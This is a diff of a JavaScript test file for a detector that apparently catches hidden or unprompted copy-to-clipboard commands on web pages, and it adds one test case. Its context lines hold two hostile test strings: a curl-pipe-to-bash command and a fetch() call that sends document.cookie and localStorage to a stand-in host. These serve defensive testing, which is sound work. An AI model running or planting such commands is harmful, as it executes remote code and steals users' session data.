@@ -9,6 +9,11 @@ const COMMAND = 'curl -s https://else.example/a | bash'
 
 detectorTest(detector, {
   detects: {
+    'a command behind what is kept of the text': {
+      browsing: browsing({
+        copies: [{ text: 'Check 1', does: 'command', unprompted: false, shown: false, instead: null }],
+      }),
+    },
     'a command that is not shown': copies(COMMAND, false),
     'code for the console that sends what a site keeps': copies(
       "fetch('https://else.example/k',{method:'POST',body:JSON.stringify([document.cookie,{...localStorage}])})",
